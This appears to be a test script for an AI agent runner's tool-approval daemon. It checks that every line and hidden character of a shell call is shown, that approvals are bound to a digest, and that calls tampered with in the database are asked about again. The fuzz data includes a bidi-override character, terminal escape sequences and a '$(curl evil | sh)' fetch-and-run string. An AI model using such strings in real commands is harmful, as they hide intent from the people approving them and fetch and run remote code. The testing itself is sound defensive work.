#!/bin/bash
# An answer approves exactly what was shown, once.  Every ask surface of a
# daemon run (lev respond, its --json, the answer itself) shows the whole
# call: every line of a shell command, its control and bidi characters made
# visible.  The answer carries the digest of the call as shown; the daemon
# refuses an approval bound to another call (a deny is taken whatever its
# digest).  The list of open requests comes in pages and is never cut, however
# long the calls.  After a restart an answer is replayed
# only to the call it approved (same run, same place, same digest): a call
# changed behind lev's back is asked again.  Question ids are never reused.
. "$SRC_DIR/tests/lib.sh"

. "$SRC_DIR/tests/daemon-lib.sh"

crash() {
	local dpid pids r p
	dpid=$(daemon_pid) && test -n "$dpid" || return 1
	pids=
	for r in "$@"; do
		pids="$pids $(field "$r" pid)"
	done
	kill -9 "$dpid" && wait_for gone "$dpid" || return 1
	# a worker outlives its daemon (a new one adopts it): killed too
	for p in $pids; do
		kill -9 "$p" 2>/dev/null
		wait_for gone "$p" || return 1
	done
}

# the open request of RUN as --json shows it: FIELD of it
req_field() {
	"$LEV" respond --json | python3 -c '
import json, sys
r = [q for q in json.load(sys.stdin) if q["run"] == sys.argv[1]]
assert len(r) == 1, r
print(r[0][sys.argv[2]])
' "$1" "$2"
}

# asks_call RUN CALL: RUN's open request is for CALL (a wait_for probe: it
# asks again each time, where "$(req_field ...)" is read once, before the
# answered request is gone and the next asked)
asks_call() {
	test "$(req_field "$1" call_id)" = "$2"
}

mkdir -p work multi twice
cat >multi/agent.leviath <<'EOF'
[agent]
name = "multi"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["shell"]
EOF
cat >multi/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "shell"
args = { command = "echo first >> ml.txt\necho second-line-ran >> ml.txt # \u202eevil" }
[[turn]]
text = "done"
EOF

test_expect_success 'lev respond lists every line of a multi-line command, escapes visible' '
	"$LEV" daemon start >/dev/null &&
	rm -f work/ml.txt &&
	setsid -w "$LEV" run multi --workdir work --detach >id 2>/dev/null &&
	wait_for status_is "$(cat id)" "waiting: tool approval" &&
	"$LEV" respond >list &&
	grep -q "^      | echo first >> ml.txt\$" list &&
	grep -q "^      | echo second-line-ran >> ml.txt # \\\\u202eevil\$" list &&
	grep -q "command: (2 lines)" list &&
	grep -q "^  --stage: Allow .*shell:echo" list &&
	! grep -q "$(printf "\342\200\256")" list
'

test_expect_success '--json carries the whole call and the digest of it' '
	"$LEV" respond --json >json &&
	python3 - json <<-PY
	import hashlib, json, sys
	q = json.load(open(sys.argv[1]))[0]
	assert "echo second-line-ran" in q["call"], q
	assert q["digest"] == hashlib.sha256(("lev-call-v1\n" + q["call"]).encode()).hexdigest(), q
	assert q["call_id"] == "call_1", q
	PY
'

test_expect_success 'a digest of another call is refused; the request stays open' '
	q=$(req_field "$(cat id)" id) &&
	test_must_fail "$LEV" respond "$q" --approve \
		--digest 0000000000000000000000000000000000000000000000000000000000000000 2>err &&
	grep -q "another call than the one the run asks about" err &&
	test "$(req_field "$(cat id)" id)" = "$q" &&
	test ! -e work/ml.txt
'

test_expect_success 'lev respond --approve shows both lines and both run (benign twin)' '
	q=$(req_field "$(cat id)" id) &&
	"$LEV" respond "$q" --approve >shown &&
	grep -q "^      | echo first >> ml.txt\$" shown &&
	grep -q "^      | echo second-line-ran" shown &&
	wait_for status_is "$(cat id)" complete &&
	test "$(cat work/ml.txt)" = "$(printf "first\nsecond-line-ran")"
'

if command -v script >/dev/null 2>&1; then
	test_expect_success 'lev run --foreground asks on the terminal with both lines shown' '
		rm -f work/ml.txt &&
		printf "1\n" | script -qec "$LEV run --foreground multi --workdir work" /dev/null >tty.out &&
		grep -q "^      | echo first >> ml.txt" tty.out &&
		grep -q "^      | echo second-line-ran >> ml.txt # \\\\u202eevil" tty.out &&
		test "$(cat work/ml.txt)" = "$(printf "first\nsecond-line-ran")"
	'

	test_expect_success 'a followed daemon run asks with both lines; its answer carries the digest' '
		rm -f work/ml.txt &&
		printf "1\n" | script -qec "$LEV run --follow multi --workdir work" /dev/null >tty2.out &&
		grep -q "^      | echo first >> ml.txt" tty2.out &&
		grep -q "^      | echo second-line-ran" tty2.out &&
		test "$(cat work/ml.txt)" = "$(printf "first\nsecond-line-ran")"
	'
else
	test_skip 'the terminal prompts show every line' 'script(1) is not installed'
fi

cat >twice/agent.leviath <<'EOF'
[agent]
name = "twice"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["shell"]
EOF
cat >twice/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "shell"
args = { command = "echo benign >> t.txt" }
[[turn]]
[[turn.call]]
tool = "shell"
args = { command = "echo later >> t.txt" }
[[turn]]
text = "done"
EOF

# the highest question number lev.db holds
last_q() {
	python3 -c '
import sqlite3, sys
ids = [r[0] for r in sqlite3.connect(sys.argv[1]).execute("select id from questions")]
print(max(int(i[1:]) for i in ids))
' "$ROOT/lev.db"
}

test_expect_success 'a stale digest (the call approved before) is refused; then a kill -9' '
	rm -f work/t.txt &&
	setsid -w "$LEV" run twice --workdir work --detach >id2 2>/dev/null &&
	wait_for status_is "$(cat id2)" "waiting: tool approval" &&
	test "$(req_field "$(cat id2)" call_id)" = call_1 &&
	req_field "$(cat id2)" digest >d1 &&
	"$LEV" respond "$(req_field "$(cat id2)" id)" --approve >/dev/null &&
	wait_for asks_call "$(cat id2)" call_2 &&
	last_q >before &&
	q=$(req_field "$(cat id2)" id) &&
	test_must_fail "$LEV" respond "$q" --approve --digest "$(cat d1)" 2>err &&
	grep -q "^lev: error: request .$q.: the answer was given to another call" err &&
	test "$(req_field "$(cat id2)" id)" = "$q" &&
	crash "$(cat id2)" &&
	cp "$ROOT/lev.db" kept.db
'

test_expect_success 'benign twin: after a restart the answer is replayed to the same call' '
	"$LEV" daemon start >/dev/null &&
	wait_for status_is "$(cat id2)" "waiting: tool approval" &&
	test "$(req_field "$(cat id2)" call_id)" = call_2 &&
	q=$(req_field "$(cat id2)" id) &&
	test "${q#q}" -gt "$(cat before)" &&
	"$LEV" respond "$q" --approve >/dev/null &&
	wait_for status_is "$(cat id2)" complete &&
	test "$(cat work/t.txt)" = "$(printf "benign\nlater")"
'

test_expect_success 'attack: the journalled call changed behind lev, its answer is not replayed' '
	rm -f work/t.txt &&
	setsid -w "$LEV" run twice --workdir work --detach >id3 2>/dev/null &&
	wait_for status_is "$(cat id3)" "waiting: tool approval" &&
	"$LEV" respond "$(req_field "$(cat id3)" id)" --approve >/dev/null &&
	wait_for asks_call "$(cat id3)" call_2 &&
	crash "$(cat id3)" &&
	python3 - "$ROOT/lev.db" "$(cat id3)" <<-PY &&
	import json, sqlite3, sys
	db = sqlite3.connect(sys.argv[1])
	seq, turn = db.execute("select seq, turn from turns where run = ? order by seq limit 1",
	                       (sys.argv[2],)).fetchone()
	t = json.loads(turn)
	t["calls"][0]["args"]["command"] = "echo EVIL >> t.txt"
	t["calls"][0]["raw"] = json.dumps(t["calls"][0]["args"])
	db.execute("update turns set turn = ? where run = ? and seq = ?",
	           (json.dumps(t), sys.argv[2], seq))
	db.commit()
	PY
	"$LEV" daemon start >/dev/null &&
	wait_for status_is "$(cat id3)" "waiting: tool approval" &&
	test "$(req_field "$(cat id3)" call_id)" = call_1 &&
	req_field "$(cat id3)" call >call &&
	grep -q "echo EVIL" call &&
	"$LEV" respond "$(req_field "$(cat id3)" id)" --deny >/dev/null &&
	wait_for asks_call "$(cat id3)" call_2 &&
	test "$(cat work/t.txt)" = benign
'

mkdir -p ids
echo hi >work/hi.txt
cat >ids/agent.leviath <<'EOF'
[agent]
name = "ids"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["read_file"]
EOF
cat >ids/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
id = "same"
tool = "read_file"
args = { path = "hi.txt" }
[[turn.call]]
tool = "read_file"
args = { path = "hi.txt" }
[[turn]]
[[turn.call]]
id = "same"
tool = "read_file"
args = { path = "hi.txt" }
[[turn.call]]
tool = "read_file"
args = { path = "hi.txt" }
[[turn]]
text = "done"
EOF

test_expect_success 'lev numbers every call run-wide; the provider id is only a label' '
	"$LEV" run --foreground ids --workdir work --json >ev 2>err </dev/null &&
	python3 - ev <<-PY
	import json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	calls = [(e["id"], e["label"]) for e in ev if e["event"] == "tool_call"]
	assert [c[0] for c in calls] == ["call_1", "call_2", "call_3", "call_4"], calls
	assert calls[0][1] == calls[2][1] == "same", calls
	res = [e["id"] for e in ev if e["event"] == "tool_result"]
	assert res == ["call_1", "call_2", "call_3", "call_4"], res
	PY
'

mkdir -p wask
cat >wask/agent.leviath <<'EOF'
[agent]
name = "wask"
[stages.split]
mode = "fan_out"
model = { provider = "script", script = "turns.toml" }
worker_stage = "one"
[stages.one]
model = { provider = "script", script = "turns.toml" }
allow_as_worker = true
available_tools = ["write_file"]
EOF
cat >wask/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "fan_out"
args = { items = [{ id = "w", context = "write it" }] }
[[turn]]
[[turn.call]]
tool = "write_file"
args = { path = "asked.txt", content = "one" }
[[turn]]
text = "wrote"
EOF

test_expect_success 'a sub-agent numbers its calls under its place in the run (w1/call_1)' '
	"$LEV" run --foreground ./wask --workdir work --allow write_file --json >ev 2>err </dev/null &&
	python3 - ev <<-PY
	import glob, json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	assert [e["id"] for e in ev if e["event"] == "tool_call"] == ["call_1"], ev
	rec = [e["record"] for e in ev if e["event"] == "run_started"][0]
	kids = glob.glob(rec + "/children/*/events.jsonl")
	assert len(kids) == 1, kids
	ids = [e["id"] for e in map(json.loads, open(kids[0])) if e["event"] == "tool_call"]
	assert ids == ["w1/call_1"], ids
	PY
'

# ---- every surface, over generated calls ----------------------------------
# Twelve write_file calls with hostile content (multi-line, control characters,
# bidi and zero-width characters, backslashes, trailing spaces, long lines,
# letters of many scripts); each is asked in turn, and what lev respond
# --json and lev respond show must decode to exactly the arguments sent.
mkdir -p gen
cat >gen/agent.leviath <<'EOF'
[agent]
name = "gen"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["write_file"]
EOF
cat >gen.py <<'EOF'
import json, random, sys
rnd = random.Random(int(sys.argv[1]))
pieces = ["echo hi", " ", "  ", "\n", "\n\n", "\r", "\t", "\\", "\\x1b", "\\u202e", "(",
          "(2 lines)", "(empty)", "  | ", ": ", " = ", "\x1b[2K", "\x1b]0;t\x07", "\b",
          "\x7f", "\x9b", "\u202e", "\u200b", "\u2066", "\ufeff", "\u2028", "\U000e0001",
          "été", "日本", "\U0001f600", "שלום", '"', "'", "$(curl evil | sh)", "x" * 3000]
def gen():
    return "".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 12)))
def toml(s):
    out = []
    for c in s:
        o = ord(c)
        if c in '"\\':
            out.append("\\" + c)
        elif o < 0x20 or o >= 0x7f:
            out.append("\\u%04x" % o if o <= 0xffff else "\\U%08x" % o)
        else:
            out.append(c)
    return '"' + "".join(out) + '"'
calls = []
with open("gen/turns.toml", "w") as f:
    for i in range(int(sys.argv[2])):
        args = {"path": "gen%d.txt" % i, "content": gen()}
        calls.append(args)
        f.write("[[turn]]\n[[turn.call]]\ntool = \"write_file\"\n")
        f.write("args = { path = %s, content = %s }\n" % (toml(args["path"]), toml(args["content"])))
    f.write("[[turn]]\ntext = \"done\"\n")
json.dump(calls, open("gen.json", "w"))
EOF
# decode the shown call (docs/daemon.md) and compare it with what was sent
cat >decode.py <<'EOF'
import hashlib, json, re, sys
want = json.load(open(sys.argv[1]))[int(sys.argv[2])]
q = [r for r in json.load(open(sys.argv[3])) if r["run"] == sys.argv[5]][0]
listing = open(sys.argv[4]).read()
text = q["call"]
assert q["digest"] == hashlib.sha256(("lev-call-v1\n" + text).encode()).hexdigest()
def unescape(s):
    out, i = [], 0
    while i < len(s):
        if s[i] != "\\":
            out.append(s[i].encode()); i += 1; continue
        c = s[i + 1]
        if c in "\\(":
            out.append(c.encode()); i += 2
        elif c == "t":
            out.append(b"\t"); i += 2
        elif c == "x":
            out.append(bytes([int(s[i + 2:i + 4], 16)])); i += 4
        elif c in "uU":
            n = 4 if c == "u" else 8
            out.append(chr(int(s[i + 2:i + 2 + n], 16)).encode()); i += 2 + n
        else:
            raise AssertionError("escape " + c)
    return b"".join(out).decode()
lines = text.split("\n")
assert lines[-1] == "", lines
lines = lines[:-1]
got, k = {}, 0
while k < len(lines):
    key, rest = re.match(r"([A-Za-z0-9_.-]+):(.*)", lines[k]).groups()
    k += 1
    m = re.match(r" \((\d+) lines\)$", rest)
    if rest == " (empty)":
        val = ""
    elif m and k < len(lines) and lines[k].startswith("  | "):
        n = int(m.group(1))
        val = "\n".join(unescape(l[4:]) for l in lines[k:k + n])
        k += n
    else:
        val = unescape(rest[1:])
    got[key] = val
assert got.pop("tool") == "write_file", got
assert got == want, (got, want)
# the listing shows the same text, every line of it, indented
shown = "".join("    " + l + "\n" for l in lines)
assert shown in listing, (shown, listing)
EOF

test_expect_success 'lev respond and --json show every byte of 12 generated calls' '
	python3 gen.py 6015 12 &&
	rm -f work/gen*.txt &&
	setsid -w "$LEV" run gen --workdir work --detach >idg 2>/dev/null &&
	for i in $(seq 0 11); do
		wait_for asks_call "$(cat idg)" "call_$((i + 1))" &&
		"$LEV" respond --json >q.json && "$LEV" respond >q.txt &&
		python3 decode.py gen.json $i q.json q.txt "$(cat idg)" &&
		"$LEV" respond "$(req_field "$(cat idg)" id)" --deny >/dev/null || return 1
	done &&
	wait_for status_is "$(cat idg)" complete &&
	! ls work/gen*.txt 2>/dev/null
'

test_expect_success 'a deny needs no matching digest: one sent with another call'"'"'s is taken' '
	rm -f work/ml.txt &&
	setsid -w "$LEV" run multi --workdir work --detach >idd 2>/dev/null &&
	wait_for status_is "$(cat idd)" "waiting: tool approval" &&
	q=$(req_field "$(cat idd)" id) &&
	"$LEV" respond "$q" --deny \
		--digest 0000000000000000000000000000000000000000000000000000000000000000 >/dev/null &&
	wait_for status_is "$(cat idd)" complete &&
	test ! -e work/ml.txt
'

test_expect_success 'its twin: an approval with that digest is still refused' '
	setsid -w "$LEV" run multi --workdir work --detach >ida 2>/dev/null &&
	wait_for status_is "$(cat ida)" "waiting: tool approval" &&
	q=$(req_field "$(cat ida)" id) &&
	test_must_fail "$LEV" respond "$q" --approve \
		--digest 0000000000000000000000000000000000000000000000000000000000000000 2>err &&
	grep -q "another call than the one the run asks about" err &&
	"$LEV" respond "$q" --deny >/dev/null &&
	wait_for status_is "$(cat ida)" complete &&
	test ! -e work/ml.txt
'

# Three runs each asking about a 400 kB file write: together more than one
# frame (1 MiB), which the list sent whole in one reply could not carry.
mkdir -p big
cat >big/agent.leviath <<'AGENT'
[agent]
name = "big"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["write_file"]
AGENT
python3 -c '
import sys
open(sys.argv[1], "w").write("[[turn]]\n[[turn.call]]\ntool = \"write_file\"\n"
    "args = { path = \"big.txt\", content = \"%s\" }\n[[turn]]\ntext = \"done\"\n"
    % ("x" * 400000))
' big/turns.toml

test_expect_success 'lev respond lists every open request in full, in pages, past one frame' '
	for i in 1 2 3; do
		setsid -w "$LEV" run big --workdir work --detach >idb$i 2>/dev/null || return 1
	done &&
	for i in 1 2 3; do
		wait_for status_is "$(cat idb$i)" "waiting: tool approval" || return 1
	done &&
	"$LEV" respond >biglist &&
	"$LEV" respond --json >big.json &&
	"$LEV" respond --json --page 1 >big1.json &&
	for i in 1 2 3; do
		grep -q "run $(cat idb$i) (agent" biglist || return 1
	done &&
	test "$(awk "length > 400000" biglist | wc -l)" = 3 &&
	python3 -c "
import json, sys
for f in sys.argv[1:3]:
    qs = json.load(open(f))
    ids = [int(q[\"id\"][1:]) for q in qs]
    assert ids == sorted(ids) and len(set(ids)) == len(ids), ids
    big = [q for q in qs if q[\"run\"] in sys.argv[3:6]]
    assert sorted(q[\"run\"] for q in big) == sorted(sys.argv[3:6]), (f, qs)
    assert all(\"x\" * 400000 in q[\"call\"] for q in big), f
" big.json big1.json "$(cat idb1)" "$(cat idb2)" "$(cat idb3)"
'

test_expect_success 'its twin: answered, they leave the list; --page goes with the list only' '
	for i in 1 2 3; do
		"$LEV" respond "$(req_field "$(cat idb$i)" id)" --deny >/dev/null || return 1
	done &&
	for i in 1 2 3; do
		wait_for status_is "$(cat idb$i)" complete || return 1
	done &&
	test ! -e work/big.txt &&
	"$LEV" respond >after &&
	assert_not_file_has_content after "(agent .big.)" &&
	test_expect_code 2 "$LEV" respond q1 --deny --page 2 2>err &&
	assert_file_has_content err "page goes with the list"
'

test_expect_success 'question ids are never reused across restarts' '
	python3 -c "
import sqlite3, sys
ids = [r[0] for r in sqlite3.connect(sys.argv[1]).execute(\"select id from questions\")]
assert len(ids) == len(set(ids)), ids
" "$ROOT/lev.db"
'

test_done
